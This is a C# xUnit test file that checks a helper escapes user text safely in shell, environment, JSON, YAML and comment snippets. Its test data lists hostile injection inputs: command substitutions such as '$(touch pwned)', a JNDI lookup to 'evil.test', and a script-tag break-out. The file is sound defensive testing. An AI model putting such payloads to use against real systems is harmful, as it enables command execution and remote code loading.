using System.Diagnostics;
using System.Text.Json;
using IdentitySource.Server.Console.QuickStart;
using IdentitySource.TestKit;
using Xunit;

namespace IdentitySource.Server.Tests.Console.QuickStart;

/// <summary>What people typed stays one value in every language that a snippet is written in.</summary>
public class WritingLiterals
{
    public static TheoryData<string> Hostile =>
    [
        "it's", "\"; Environment.Exit(1); \"", "$(touch pwned)", "`touch pwned`", "${HOME}", "${jndi:ldap://evil.test}", "a\nb", "a\r\nb", "\\", "\\\"", "'\\''",
        "</script><script>alert(1)</script>", "a\u2028b\u2029c\u0085d", "-- #{1+1}", "%s%n", "a\0b", "", "名称 €", "!history", "'''\"\"\"",
    ];

    [Theory, Attack("UI-08")]
    [MemberData(nameof(Hostile))]
    public async Task A_shell_reads_the_very_text(string text)
    {
        // No program can be handed a NUL.
        var given = text.Replace("\0", "", StringComparison.Ordinal);
        Assert.Equal(given + ".", await BashAsync($"printf %s. {Literals.Shell(given)}"));
        Assert.Equal(given + ".", await BashAsync($"value={Literals.Environment(given)}; printf %s. \"$value\""));
    }

    [Theory, Attack("UI-08")]
    [MemberData(nameof(Hostile))]
    public void Between_double_quotes_nothing_ends_them(string text)
    {
        var literal = Literals.Quoted(text);
        Assert.Equal(text, JsonSerializer.Deserialize<string>(literal));
        Assert.DoesNotContain('<', literal);
        Assert.DoesNotContain(literal, each => char.IsControl(each) || each is '\u2028' or '\u2029');
    }

    [Theory, Attack("UI-08")]
    [MemberData(nameof(Hostile))]
    public void Spring_replaces_nothing_in_it(string text)
    {
        var read = JsonSerializer.Deserialize<string>(Literals.Yaml(text))!;
        Assert.Equal(text, read.Replace("\\${", "${", StringComparison.Ordinal));
        Assert.DoesNotContain("${", read.Replace("\\${", "", StringComparison.Ordinal), StringComparison.Ordinal);
    }

    [Theory, Attack("UI-08")]
    [MemberData(nameof(Hostile))]
    public void A_comment_stays_on_its_line(string text) =>
        Assert.DoesNotContain(Literals.Comment(text), each => char.IsControl(each) || each is '\u2028' or '\u2029');

    private static async Task<string> BashAsync(string command)
    {
        using var bash = Process.Start(new ProcessStartInfo("bash", ["-c", command]) { RedirectStandardOutput = true, StandardOutputEncoding = System.Text.Encoding.UTF8 })!;
        var printed = await bash.StandardOutput.ReadToEndAsync();
        await bash.WaitForExitAsync();
        return printed;
    }
}
